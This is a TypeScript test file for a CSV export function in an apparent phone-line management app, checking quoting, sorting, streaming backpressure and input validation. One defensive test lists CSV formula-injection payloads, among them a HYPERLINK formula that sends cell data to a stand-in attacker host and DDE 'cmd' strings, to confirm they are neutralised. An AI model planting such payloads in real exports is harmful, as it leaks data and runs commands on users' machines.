import { PassThrough, Writable } from 'node:stream'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { LinesQuery } from '../../shared/api/lines'
import type { LineRow } from '../../shared/domain/line'
import { CSV_DEFAULT_COLUMNS, csvField, writeLinesCsv } from './export-csv'
import { linesEngine } from './engine'
import { allRows, makeWorkspace, q, referenceView, type Fixture } from './testing'

let fx: Fixture
let rows: LineRow[]
const NASTY = 'Smith, "Bob" & Sons\r\nLLC'

beforeAll(async () => {
  fx = await makeWorkspace(3000, 4)
  // a name that needs every kind of quoting
  fx.ws.db.prepare('UPDATE lines SET account_name = ? WHERE id IN (5, 6)').run(NASTY)
  fx.ws.changed(['lines'])
  rows = allRows(fx.ws)
})
afterAll(() => fx?.close())

async function exportToString(query: LinesQuery, opts?: Parameters<typeof writeLinesCsv>[3]): Promise<{ text: string; n: number }> {
  const out = new PassThrough()
  const chunks: Buffer[] = []
  out.on('data', (c: Buffer) => chunks.push(c))
  const n = await writeLinesCsv(fx.ws, query, out, opts)
  out.end()
  return { text: Buffer.concat(chunks).toString('utf8'), n }
}

function parse(text: string): Record<string, string>[] {
  const res = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true, newline: '\r\n' })
  expect(res.errors).toEqual([])
  return res.data
}

const asCsv = (r: LineRow) => Object.fromEntries(CSV_DEFAULT_COLUMNS.map((c) => [c, r[c] == null ? '' : String(r[c])]))

describe('CSV export', () => {
  it('quotes fields per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField(null)).toBe('')
    expect(csvField(0)).toBe('0')
  })

  it('round-trips the whole filtered, sorted view, not only a page', async () => {
    const query: LinesQuery = {
      filter: { status: { filterType: 'set', values: ['active', 'suspended'] } },
      sort: [{ colId: 'accountName', sort: 'desc' }],
      startRow: 0,
      endRow: 100,
    }
    const { text, n } = await exportToString(query, { chunk: 97 })
    const expected = referenceView(rows, q({ ...query, startRow: 0, endRow: 1 }))
    expect(n).toBe(expected.length)
    expect(n).toBeGreaterThan(100)
    expect(text.startsWith(`${CSV_DEFAULT_COLUMNS.join(',')}\r\n`)).toBe(true)
    const parsed = parse(text)
    expect(parsed).toEqual(expected.map(asCsv))
    expect(parsed.filter((r) => r.accountName === NASTY).map((r) => r.id)).toEqual(['6', '5'])
  })

  it('exports everything unfiltered in id order, and chosen columns only', async () => {
    const { text, n } = await exportToString({}, { columns: ['msisdn', 'accountName', 'dataUsedMb'] })
    expect(n).toBe(rows.length)
    const parsed = parse(text)
    expect(parsed).toEqual(rows.map((r) => ({ msisdn: r.msisdn, accountName: r.accountName, dataUsedMb: String(r.dataUsedMb) })))
  })

  it('honours backpressure: waits for drain and still writes every row once, in order', async () => {
    let drains = 0
    const received: string[] = []
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _enc, cb) {
        received.push(chunk.toString('utf8'))
        setImmediate(cb)
      },
    })
    slow.on('drain', () => drains++)
    // while the export waits, the connection keeps serving pages (no statement is left open across the await)
    const engine = linesEngine(fx.ws)
    const exporting = writeLinesCsv(fx.ws, { sort: [{ colId: 'dataUsedMb', sort: 'asc' }] }, slow, { chunk: 500 })
    await new Promise((r) => setImmediate(r))
    expect(engine.page(q({ startRow: 0, endRow: 10 })).rows).toHaveLength(10)
    const n = await exporting
    await new Promise((r) => slow.end(r))
    expect(drains).toBeGreaterThan(10)
    expect(n).toBe(rows.length)
    const parsed = parse(received.join(''))
    expect(parsed.map((r) => Number(r.id))).toEqual(referenceView(rows, q({ sort: [{ colId: 'dataUsedMb', sort: 'asc' }] })).map((r) => r.id))
  })

  // attack 10 (CSV formula injection): a subscriber's name or e-mail becomes a live formula in the operator's spreadsheet
  it('neutralises formulas in text cells and keeps numbers numbers (attack 10, CSV injection)', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1']
    const ids = [11, 12, 13, 14, 15, 16]
    const set = fx.ws.db.prepare('UPDATE lines SET account_name = ?, wallet_cents = -1250 WHERE id = ?')
    payloads.forEach((p, i) => set.run(p, ids[i]))
    fx.ws.changed(['lines'])
    try {
      const { text } = await exportToString({}, { columns: ['id', 'msisdn', 'accountName', 'walletCents'] })
      const parsed = parse(text).filter((r) => ids.includes(Number(r.id)))
      expect(parsed.map((r) => r.accountName)).toEqual(payloads.map((p) => `'${p}`))
      for (const r of parsed) {
        expect(r.walletCents).toBe('-1250') // a negative number in a numeric column stays a number
        expect(r.msisdn).toMatch(/^\+1\d{10}$/) // an E.164 number is a number, not a formula
      }
    } finally {
      const back = fx.ws.db.prepare('UPDATE lines SET account_name = ?, wallet_cents = ? WHERE id = ?')
      for (const id of ids) {
        const r = rows.find((x) => x.id === id)!
        back.run(r.accountName, r.walletCents, id)
      }
      fx.ws.changed(['lines'])
    }
  })

  it('neutralises formulas field by field, but not plain numbers written as text', () => {
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('@x')).toBe("'@x")
    expect(csvField('-1250')).toBe('-1250')
    expect(csvField(-1250)).toBe('-1250')
    expect(csvField('+15125550123')).toBe('+15125550123')
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`)
  })

  it('refuses a malformed query with BAD_INPUT', async () => {
    await expect(exportToString({ sort: [{ colId: 'nope' as never, sort: 'asc' }] })).rejects.toMatchObject({ code: 'BAD_INPUT' })
  })
})
